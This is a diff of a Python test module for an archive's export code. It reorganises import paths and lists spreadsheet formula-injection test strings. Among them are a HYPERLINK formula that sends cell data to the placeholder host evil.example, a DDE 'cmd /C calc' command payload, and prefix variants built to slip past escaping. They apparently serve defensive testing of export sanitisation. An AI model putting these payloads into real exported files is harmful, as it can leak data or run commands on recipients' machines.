@@ -15,12 +15,12 @@ from hypothesis import strategies as st
 from small_archive import make, post
 from small_archive import reading as document
 
-from ingest import spreadsheet
-from ingest.codebook import COLUMNS, is_own_export
 from ingest.errors import Failed, Usage
 from ingest.export import FORMATS, Options, format_of, posts, to_file, to_stream, written
-from ingest.reading import columns_of, reading
 from ingest.search import Filters, Query
+from ingest.store.reading import columns_of, reading
+from ingest.views import spreadsheet
+from ingest.views.codebook import COLUMNS, is_own_export
 
 FORMULAS = ("=1+1", '=HYPERLINK("http://evil.example/?d="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1",
             "\r=1", "\n=1+1", " =1+1", "\uff1d1+1", "\ufeff=1", "@x HYPERLINK(1)", "@x cmd|'/C calc'!A0", "@x+1",
